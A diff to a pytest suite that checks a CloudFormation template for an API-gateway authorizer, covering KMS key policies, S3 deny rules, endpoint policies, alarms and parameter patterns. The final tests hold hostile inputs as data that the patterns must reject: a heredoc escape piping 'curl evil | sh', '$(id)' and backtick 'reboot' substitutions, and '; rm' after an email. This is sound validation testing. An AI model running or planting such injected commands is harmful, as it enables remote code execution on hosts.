@@ -8,6 +8,8 @@ from pathlib import Path
 from typing import Any
 
 from cfnlint.decode import cfn_yaml
+from hypothesis import given, settings
+from hypothesis import strategies as st
 
 from nodegate_authorizer.settings import load_settings
 
@@ -22,6 +24,12 @@ def props(name: str) -> dict[str, Any]:
 
 def of_type(kind: str) -> list[dict[str, Any]]:
     return [r for r in RESOURCES.values() if r["Type"] == kind]
+
+
+def user_data(resources: dict[str, Any] = RESOURCES) -> str:
+    """The node's boot script (UserData is ``Fn::Sub`` of the script and its variable map)."""
+    script, _ = resources["NodeLaunchTemplate"]["Properties"]["LaunchTemplateData"]["UserData"]["Fn::Base64"]["Fn::Sub"]
+    return str(script)
 
 
 def openapi_paths() -> dict[str, Any]:
@@ -71,8 +79,8 @@ def test_authorizer_function_runtime_and_limits() -> None:
     assert function["ReservedConcurrentExecutions"] == {
         "Fn::If": ["ReserveConcurrency", {"Ref": "AuthorizerConcurrency"}, {"Ref": "AWS::NoValue"}]
     }
-    assert TEMPLATE["Parameters"]["AuthorizerConcurrency"]["Default"] == 0  # unreserved unless asked
-    assert props("AuthorizerLogGroup")["RetentionInDays"] > 0
+    assert TEMPLATE["Parameters"]["AuthorizerConcurrency"]["Default"] > 0  # reserved unless 0 is passed
+    assert props("AuthorizerLogGroup")["RetentionInDays"] == {"Ref": "LogRetentionDays"}
     assert function["LoggingConfig"]["LogGroup"] == {"Ref": "AuthorizerLogGroup"}
 
 
@@ -131,6 +139,7 @@ def test_every_route_uses_the_authorizer_and_vpc_link_and_overwrites_identity_he
 
 def test_backend_trusts_exactly_the_headers_the_template_sets() -> None:
     from nodegate.edge import IDENTITY_HEADERS
+    from nodegate_node.assertion import HEADER
     from nodegate_node.server import IDENTITY_HEADERS as BACKEND_HEADERS
 
     integration = openapi_paths()["/nodes/{nodeId}"]["x-amazon-apigateway-any-method"][
@@ -142,7 +151,40 @@ def test_backend_trusts_exactly_the_headers_the_template_sets() -> None:
         if k.startswith("integration.request.header.")
     }
     assert template_headers == IDENTITY_HEADERS
-    assert {h.lower() for h in BACKEND_HEADERS} == set(template_headers)
+    assert {h.lower() for h in (*BACKEND_HEADERS, HEADER)} == set(template_headers)
+    assert template_headers[HEADER.lower()] == "assertion"  # the signed assertion the node believes
+
+
+def test_only_the_authorizer_role_can_sign_node_assertions() -> None:
+    """Another REST API on the account-wide VPC link can send any headers, but cannot make the assertion: only
+    the authorizer's role may use the KMS key to sign; the account administers it without kms:Sign."""
+    key = props("AssertionKey")
+    assert (key["KeySpec"], key["KeyUsage"]) == ("ECC_NIST_P256", "SIGN_VERIFY")
+    statements = key["KeyPolicy"]["Statement"]
+    assert all(s["Effect"] == "Allow" for s in statements)
+    signers = [s for s in statements if "kms:Sign" in [s.get("Action")] or s.get("Action") in ("kms:*", "*")]
+    assert [s["Principal"] for s in signers] == [{"AWS": {"Fn::GetAtt": ["AuthorizerFunctionRole", "Arn"]}}]
+    assert signers[0]["Condition"] == {"StringEquals": {"kms:SigningAlgorithm": "ECDSA_SHA_256"}}
+    others = [s for s in statements if s not in signers]
+    assert all(s.get("NotAction") == "kms:Sign" and "Action" not in s for s in others)
+    env = props("AuthorizerFunction")["Environment"]["Variables"]
+    assert env["ASSERTION_KEY_ID"] == {"Fn::GetAtt": ["AssertionKey", "Arn"]}
+
+
+def test_nodes_verify_assertions_with_the_kms_public_key() -> None:
+    script = user_data()
+    assert "aws kms get-public-key --region ${AWS::Region} --key-id ${AssertionKey.Arn}" in script
+    assert "--assertion-key /etc/nodegate/assertion-key.b64" in script
+    statements = [s for p in props("NodeRole")["Policies"] for s in p["PolicyDocument"]["Statement"]]
+    kms = [s for s in statements if str(s["Action"]).startswith("kms:")]
+    assert kms == [
+        {"Effect": "Allow", "Action": "kms:GetPublicKey", "Resource": {"Fn::GetAtt": ["AssertionKey", "Arn"]}}
+    ]
+    endpoint = props("KmsEndpoint")["PolicyDocument"]["Statement"]
+    assert [(s["Action"], s["Resource"]) for s in endpoint] == [
+        ("kms:GetPublicKey", {"Fn::GetAtt": ["AssertionKey", "Arn"]})
+    ]
+    assert "KmsEndpoint" in RESOURCES["NodeGroup"]["DependsOn"]
 
 
 def test_network_is_private_nlb_internal_and_node_locked_down() -> None:
@@ -169,19 +211,17 @@ def test_network_is_private_nlb_internal_and_node_locked_down() -> None:
     assert instance["MetadataOptions"]["HttpTokens"] == "required"
     assert "KeyName" not in instance
     assert instance["SecurityGroupIds"] == [{"Ref": "NodeSecurityGroup"}]
-    assert {"Fn::Sub": "arn:${AWS::Partition}:iam::aws:policy/AmazonSSMManagedInstanceCore"} in props("NodeRole")[
-        "ManagedPolicyArns"
-    ]
+    assert "ManagedPolicyArns" not in props("NodeRole")  # AmazonSSMManagedInstanceCore reads every parameter
 
 
 def test_node_backend_installed_as_systemd_service_from_packaged_code() -> None:
     assert props("NodeCodeLayer")["ContentUri"] == "src/node"
-    user_data = props("NodeLaunchTemplate")["LaunchTemplateData"]["UserData"]["Fn::Base64"]["Fn::Sub"]
-    assert "get-layer-version-by-arn" in user_data
-    assert "systemctl enable --now nodegate-node" in user_data
-    assert "python3 -m nodegate_node" in user_data
-    assert "${NodeRoutes}" in user_data
-    assert "--routes /etc/nodegate/routes.json" in user_data
+    script = user_data()
+    assert "get-layer-version-by-arn" in script
+    assert "systemctl enable --now nodegate-node" in script
+    assert "python3 -m nodegate_node" in script
+    assert "echo ${NodeRoutesBase64} | base64 -d > /etc/nodegate/routes.json" in script
+    assert "--routes /etc/nodegate/routes.json" in script
 
 
 def test_node_routes_default_is_a_valid_routes_file(tmp_path: Path) -> None:
@@ -282,13 +322,12 @@ def test_translated_nodes_wait_for_their_endpoints_and_a_broken_node_fails_the_d
     assert group["Properties"]["HealthCheckType"] == "ELB"
     assert group["Properties"]["TargetGroupARNs"] == [{"Ref": "NodeTargetGroup"}]
     assert TEMPLATE["Parameters"]["NodeCount"]["Default"] >= 2
-    launch = resources["NodeLaunchTemplate"]["Properties"]["LaunchTemplateData"]
-    user_data = launch["UserData"]["Fn::Base64"]["Fn::Sub"]
-    assert "--logical-resource-id NodeGroup" in user_data
-    assert "signal SUCCESS" in user_data
-    assert "trap 'signal FAILURE' ERR" in user_data
-    assert "retry aws lambda get-layer-version-by-arn" in user_data
-    assert "retry curl -fsS -o /dev/null http://127.0.0.1:${NodePort}/healthz" in user_data
+    script = user_data(resources)
+    assert "--logical-resource-id NodeGroup" in script
+    assert "signal SUCCESS" in script
+    assert "trap 'signal FAILURE' ERR" in script
+    assert "retry aws lambda get-layer-version-by-arn" in script
+    assert "retry curl -fsS -o /dev/null http://127.0.0.1:${NodePort}/healthz" in script
     statements = [s for p in resources["NodeRole"]["Properties"]["Policies"] for s in p["PolicyDocument"]["Statement"]]
     assert {
         "Effect": "Allow",
@@ -325,10 +364,264 @@ def test_alarms_and_dashboard_watch_the_metrics_the_authorizer_emits() -> None:
     assert {a["MetricName"] for a in alarms.values() if a["Namespace"] == "nodegate"} <= emitted
     assert {a["Namespace"] for a in alarms.values()} == {"nodegate", "AWS/Lambda", "AWS/ApiGateway", "AWS/NetworkELB"}
     for alarm in alarms.values():
-        assert alarm["AlarmActions"] == {
-            "Fn::If": ["HasAlarmTopic", [{"Ref": "AlarmTopicArn"}], {"Ref": "AWS::NoValue"}]
-        }
+        assert alarm["AlarmActions"] == [ALARM_TOPIC]  # a topic always: the stack's own when none is given
     body = props("DecisionsDashboard")["DashboardBody"]["Fn::Sub"]
     shown = set(re.findall(r'\["nodegate", "([A-Za-z]+)"', body))
     assert shown <= emitted
     assert {"Allow", "DenyRevoked", "DenyRevocationUnavailable", "DenyInternalError"} <= shown
+
+
+def _bucket_denies(action: str, resource: str) -> list[dict[str, Any]]:
+    """The bucket policy's Deny statements that cover ``action`` on ``resource`` (IAM wildcard matching)."""
+    import fnmatch
+
+    found = []
+    for statement in props("TruststoreBucketPolicy")["PolicyDocument"]["Statement"]:
+        actions = statement["Action"] if isinstance(statement["Action"], list) else [statement["Action"]]
+        resources = statement["Resource"] if isinstance(statement["Resource"], list) else [statement["Resource"]]
+        covered = any(fnmatch.fnmatchcase(action, a) for a in actions)
+        if statement["Effect"] == "Deny" and covered and resource in [json.dumps(r) for r in resources]:
+            found.append(statement)
+    return found
+
+
+def test_only_the_publisher_and_deployer_can_write_the_root_of_trust() -> None:
+    """Issue 22 item 1: AmazonS3FullAccess elsewhere in the account cannot rewrite crls/*, the truststore or
+    the access policy, nor change the bucket's policy, versioning or lifecycle."""
+    writers = {"ArnNotEquals": {"aws:PrincipalArn": [{"Ref": "PublisherRoleArn"}, {"Ref": "DeployRoleArn"}]}}
+    objects = json.dumps({"Fn::Sub": "${TruststoreBucket.Arn}/*"})
+    bucket = json.dumps({"Fn::GetAtt": ["TruststoreBucket", "Arn"]})
+    for action in ("s3:PutObject", "s3:DeleteObject", "s3:DeleteObjectVersion", "s3:PutObjectAcl", "s3:RestoreObject"):
+        denies = [s for s in _bucket_denies(action, objects) if s.get("Condition") == writers]
+        assert denies, action
+        assert denies[0]["Principal"] == "*", action
+    for action in (
+        "s3:PutBucketPolicy",
+        "s3:DeleteBucketPolicy",
+        "s3:PutBucketVersioning",
+        "s3:PutLifecycleConfiguration",
+        "s3:PutReplicationConfiguration",
+        "s3:PutBucketNotification",
+        "s3:PutBucketPublicAccessBlock",
+        "s3:PutEncryptionConfiguration",
+        "s3:PutBucketObjectLockConfiguration",
+    ):
+        assert [s for s in _bucket_denies(action, bucket) if s.get("Condition") == writers], action
+    assert not _bucket_denies("s3:GetObject", objects) or all(
+        "SecureTransport" in json.dumps(s) for s in _bucket_denies("s3:GetObject", objects)
+    )
+    for name in ("PublisherRoleArn", "DeployRoleArn"):
+        parameter = TEMPLATE["Parameters"][name]
+        assert "Default" not in parameter  # required: no deploy without naming who may write
+        assert re.fullmatch(parameter["AllowedPattern"], "arn:aws:iam::123456789012:role/ci/nodegate-publisher")
+        assert not re.fullmatch(parameter["AllowedPattern"], "*")
+        assert not re.fullmatch(parameter["AllowedPattern"], "arn:aws:iam::123456789012:user/alice")
+
+
+def test_access_policy_is_read_at_a_pinned_version() -> None:
+    env = props("AuthorizerFunction")["Environment"]["Variables"]
+    assert env["ACCESS_POLICY_VERSION"] == {"Ref": "AccessPolicyVersion"}
+    rule = TEMPLATE["Rules"]["AccessPolicyIsPinned"]
+    assert rule["RuleCondition"] == {"Fn::Not": [{"Fn::Equals": [{"Ref": "AccessPolicyKey"}, ""]}]}
+    assert rule["Assertions"][0]["Assert"] == {"Fn::Not": [{"Fn::Equals": [{"Ref": "AccessPolicyVersion"}, ""]}]}
+
+
+ALARM_TOPIC = {"Fn::If": ["CreateAlarmTopic", {"Ref": "AlarmTopic"}, {"Ref": "AlarmTopicArn"}]}
+
+
+def test_writes_to_the_root_of_trust_and_configuration_changes_page_the_alarm_topic() -> None:
+    assert props("TruststoreBucket")["NotificationConfiguration"] == {
+        "EventBridgeConfiguration": {"EventBridgeEnabled": True}
+    }
+    objects = props("TruststoreObjectChangeRule")
+    assert objects["EventPattern"]["source"] == ["aws.s3"]
+    assert {"Object Created", "Object Deleted"} <= set(objects["EventPattern"]["detail-type"])
+    assert objects["EventPattern"]["detail"] == {"bucket": {"name": [{"Ref": "TruststoreBucket"}]}}
+    changes = props("TrustConfigurationChangeRule")["EventPattern"]
+    assert changes["detail-type"] == ["AWS API Call via CloudTrail"]
+    by_source = {branch["source"][0]: branch["detail"] for branch in changes["$or"]}
+    assert set(by_source) == {"aws.lambda", "aws.kms", "aws.s3", "aws.apigateway"}
+    function = by_source["aws.lambda"]
+    assert {"Ref": "AuthorizerFunction"} in function["requestParameters"]["functionName"]
+    assert {"prefix": "UpdateFunction"} in function["eventName"]  # UpdateFunctionCode/Configuration20150331v2
+    assert by_source["aws.kms"]["resources"] == {"ARN": [{"Fn::GetAtt": ["AssertionKey", "Arn"]}]}
+    assert "PutKeyPolicy" in by_source["aws.kms"]["eventName"]
+    assert {"PutBucketPolicy", "DeleteBucketPolicy", "PutBucketVersioning", "PutBucketLifecycle"} <= set(
+        by_source["aws.s3"]["eventName"]
+    )
+    assert by_source["aws.s3"]["requestParameters"] == {"bucketName": [{"Ref": "TruststoreBucket"}]}
+    gateway = set(by_source["aws.apigateway"]["eventName"])
+    assert {"UpdateDomainName", "PutIntegration", "UpdateIntegration", "UpdateStage", "UpdateAuthorizer"} <= gateway
+    assert "requestParameters" not in by_source["aws.apigateway"]  # any API in the account can use the VPC link
+    for rule in ("TruststoreObjectChangeRule", "TrustConfigurationChangeRule"):
+        assert props(rule)["Targets"][0]["Arn"] == ALARM_TOPIC
+    statements = props("AlarmTopicPolicy")["PolicyDocument"]["Statement"]
+    events = next(s for s in statements if s["Principal"] == {"Service": "events.amazonaws.com"})
+    assert events["Condition"]["ArnEquals"]["aws:SourceArn"] == [
+        {"Fn::GetAtt": ["TruststoreObjectChangeRule", "Arn"]},
+        {"Fn::GetAtt": ["TrustConfigurationChangeRule", "Arn"]},
+    ]
+
+
+def test_optional_trail_records_data_events_of_the_bucket_and_the_authorizer() -> None:
+    assert TEMPLATE["Parameters"]["EnableBucketTrail"]["AllowedValues"] == ["true", "false"]
+    trail = RESOURCES["BucketTrail"]
+    assert trail["Condition"] == "CreateBucketTrail"
+    selectors = trail["Properties"]["AdvancedEventSelectors"]
+    fields = [{f["Field"]: f for f in s["FieldSelectors"]} for s in selectors]
+    assert fields[0]["resources.ARN"]["StartsWith"] == [{"Fn::Sub": "${TruststoreBucket.Arn}/"}]
+    assert fields[1]["resources.ARN"]["Equals"] == [{"Fn::GetAtt": ["AuthorizerFunction", "Arn"]}]
+    assert all(f["eventCategory"]["Equals"] == ["Data"] for f in fields)
+    assert trail["Properties"]["EnableLogFileValidation"] is True
+
+
+def test_endpoints_admit_only_this_accounts_principals_and_named_aws_buckets() -> None:
+    """Issue 22 item 4: a compromised node cannot use the endpoints to reach another account's resources."""
+    account = {"Ref": "AWS::AccountId"}
+    endpoints = {name: r["Properties"] for name, r in RESOURCES.items() if r["Type"] == "AWS::EC2::VPCEndpoint"}
+    assert len(endpoints) == 7
+    for name, endpoint in endpoints.items():
+        for statement in endpoint["PolicyDocument"]["Statement"]:
+            assert statement["Effect"] == "Allow", name
+            if statement.get("Sid") == "ReadAwsOwnedBucketsTheNodesNeed":
+                assert statement["Action"] == "s3:GetObject"
+                assert all(
+                    "${AWS::Region}" in r["Fn::Sub"] and r["Fn::Sub"].endswith("/*") for r in statement["Resource"]
+                )
+                continue
+            assert statement["Condition"]["StringEquals"]["aws:PrincipalAccount"] == account, name
+    s3 = endpoints["S3Endpoint"]["PolicyDocument"]["Statement"][0]
+    assert s3["Condition"]["StringEquals"]["aws:ResourceAccount"] == account
+    assert endpoints["LambdaEndpoint"]["PolicyDocument"]["Statement"][0]["Resource"] == {"Ref": "NodeCodeLayer"}
+    assert endpoints["CloudFormationEndpoint"]["PolicyDocument"]["Statement"][0]["Resource"] == {"Ref": "AWS::StackId"}
+
+
+def test_node_egress_only_to_the_endpoints_and_s3() -> None:
+    egress = props("NodeSecurityGroup")["SecurityGroupEgress"]
+    assert all("CidrIp" not in rule and "CidrIpv6" not in rule for rule in egress)  # never 0.0.0.0/0
+    assert [(r["FromPort"], r.get("DestinationSecurityGroupId"), r.get("DestinationPrefixListId")) for r in egress] == [
+        (443, {"Ref": "EndpointSecurityGroup"}, None),
+        (443, None, {"Ref": "S3PrefixListId"}),
+    ]
+    pattern = TEMPLATE["Parameters"]["S3PrefixListId"]["AllowedPattern"]
+    assert re.fullmatch(pattern, "pl-6da54004")
+    assert not re.fullmatch(pattern, "0.0.0.0/0")
+
+
+def test_node_role_reads_parameters_only_under_the_stack_path() -> None:
+    role = props("NodeRole")
+    assert "ManagedPolicyArns" not in role
+    statements = [s for p in role["Policies"] for s in p["PolicyDocument"]["Statement"]]
+    for statement in statements:
+        actions = statement["Action"] if isinstance(statement["Action"], list) else [statement["Action"]]
+        assert not [a for a in actions if a.endswith("*")]
+        if any(a.startswith("ssm:GetParameter") for a in actions):
+            assert statement["Resource"] == {
+                "Fn::Sub": "arn:${AWS::Partition}:ssm:${AWS::Region}:${AWS::AccountId}:parameter/${AWS::StackName}/*"
+            }
+    session = next(s for s in statements if s.get("Sid") == "SsmAgent")["Action"]
+    assert "ssmmessages:OpenDataChannel" in session
+    assert "ssm:UpdateInstanceInformation" in session
+
+
+def test_alarms_reach_someone_by_default() -> None:
+    """Issue 22 item 5: no AlarmTopicArn means the stack's own topic (with an optional email), not silence."""
+    assert TEMPLATE["Conditions"]["CreateAlarmTopic"] == {"Fn::Equals": [{"Ref": "AlarmTopicArn"}, ""]}
+    assert RESOURCES["AlarmTopic"]["Condition"] == "CreateAlarmTopic"
+    subscription = RESOURCES["AlarmEmailSubscription"]
+    assert subscription["Condition"] == "SubscribeAlarmEmail"
+    assert subscription["Properties"]["Endpoint"] == {"Ref": "AlarmEmail"}
+    pattern = TEMPLATE["Parameters"]["AlarmEmail"]["AllowedPattern"]
+    assert re.fullmatch(pattern, "")
+    assert re.fullmatch(pattern, "ops@example.com")
+    assert not re.fullmatch(pattern, "ops@example.com; rm")
+    alarms = [r["Properties"] for r in of_type("AWS::CloudWatch::Alarm")]
+    assert all(a["AlarmActions"] == [ALARM_TOPIC] for a in alarms)
+
+
+def test_security_signals_page() -> None:
+    watched = {a["Properties"]["MetricName"]: a["Properties"] for a in of_type("AWS::CloudWatch::Alarm")}
+    for metric in ("DenyRevoked", "TruststoreEntrySkipped", "RevocationSoftFail", "DenyAssertionUnavailable"):
+        assert watched[metric]["Threshold"] == 1, metric  # each single occurrence pages
+    for metric in ("DenyNodeMismatch", "DenyPolicyDenied"):
+        assert watched[metric]["Threshold"] == {"Ref": "SecurityDenyThreshold"}, metric
+
+
+def test_audit_logs_outlive_the_stack_with_a_long_retention() -> None:
+    groups = {name: r for name, r in RESOURCES.items() if r["Type"] == "AWS::Logs::LogGroup"}
+    assert set(groups) == {"AuthorizerLogGroup", "ApiAccessLogGroup", "VpcFlowLogGroup"}
+    for group in groups.values():
+        assert (group["DeletionPolicy"], group["UpdateReplacePolicy"]) == ("Retain", "Retain")
+        assert group["Properties"]["RetentionInDays"] == {"Ref": "LogRetentionDays"}
+    assert TEMPLATE["Parameters"]["LogRetentionDays"]["Default"] >= 365
+
+
+def test_optional_waf_limits_each_client_ip() -> None:
+    acl = RESOURCES["WebAcl"]
+    assert acl["Condition"] == "CreateWaf"
+    assert acl["Properties"]["Scope"] == "REGIONAL"
+    rule = acl["Properties"]["Rules"][0]
+    assert rule["Action"] == {"Block": {}}
+    assert rule["Statement"]["RateBasedStatement"] == {"Limit": {"Ref": "WafRateLimit"}, "AggregateKeyType": "IP"}
+    stage = props("WebAclAssociation")["ResourceArn"]["Fn::Sub"]
+    assert stage.endswith("/restapis/${NodeApi}/stages/${NodeApi.Stage}")
+
+
+def test_nodes_are_patched_unless_turned_off() -> None:
+    assert TEMPLATE["Parameters"]["EnableNodePatching"]["Default"] == "true"
+    patching = RESOURCES["NodePatching"]
+    assert patching["Condition"] == "PatchNodes"
+    assert patching["Properties"]["Name"] == "AWS-RunPatchBaseline"
+    assert patching["Properties"]["Parameters"]["Operation"] == ["Install"]
+    assert patching["Properties"]["MaxConcurrency"] == "1"  # one node at a time: the other keeps serving
+    tags = props("NodeLaunchTemplate")["LaunchTemplateData"]["TagSpecifications"][0]["Tags"]
+    assert {"Key": "Name", "Value": {"Fn::Sub": "${AWS::StackName}-node"}} in tags
+    assert patching["Properties"]["Targets"] == [{"Key": "tag:Name", "Values": [{"Fn::Sub": "${AWS::StackName}-node"}]}]
+
+
+def test_object_keys_refuse_wildcards() -> None:
+    """``*`` in TruststoreKey or AccessPolicyKey would widen the authorizer's s3:GetObject to the bucket."""
+    for name in ("TruststoreKey", "AccessPolicyKey"):
+        pattern = TEMPLATE["Parameters"][name]["AllowedPattern"]
+        assert re.fullmatch(pattern, "ca/truststore.pem")
+        for bad in ("*", "crls/*", "a?b", "../x", "/x", "a b", "${AWS::AccountId}"):
+            assert not re.fullmatch(pattern, bad), (name, bad)
+
+
+ROUTE_IDS = st.from_regex(r"[A-Za-z0-9][A-Za-z0-9._-]{0,20}", fullmatch=True)
+ROUTE_URLS = st.builds(
+    lambda host, port: f"http://{host}" + (f":{port}" if port else ""),
+    st.from_regex(r"[a-z0-9][a-z0-9.-]{0,30}", fullmatch=True),
+    st.one_of(st.none(), st.integers(1, 65535)),
+)
+
+
+@settings(max_examples=100, deadline=None)
+@given(routes=st.dictionaries(ROUTE_IDS, ROUTE_URLS, max_size=4))
+def test_node_routes_the_pattern_accepts_are_routes_files(routes: dict[str, str]) -> None:
+    """Issue 22 item 7: NodeRoutes is a checked JSON object; what the pattern admits, the node accepts."""
+    import tempfile
+
+    from nodegate_node.server import load_routes
+
+    pattern = TEMPLATE["Parameters"]["NodeRoutes"]["AllowedPattern"]
+    for text in (json.dumps(routes), json.dumps(routes, separators=(",", ":"))):
+        assert re.fullmatch(pattern, text), text
+        with tempfile.NamedTemporaryFile("w", suffix=".json") as file:
+            file.write(text)
+            file.flush()
+            assert load_routes(file.name) == routes
+
+
+def test_node_routes_refuse_shell_and_non_routes() -> None:
+    pattern = TEMPLATE["Parameters"]["NodeRoutes"]["AllowedPattern"]
+    for bad in (
+        "{}\nROUTES\ncurl evil | sh\ncat <<ROUTES\n{}",
+        '{"node-1": "http://$(id)"}',
+        '{"node-1": "https://x"}',
+        '{"node 1": "http://x"}',
+        '["node-1"]',
+        '{"node-1": "http://x`reboot`"}',
+        "{'node-1': 'http://x'}",
+    ):
+        assert not re.fullmatch(pattern, bad), bad
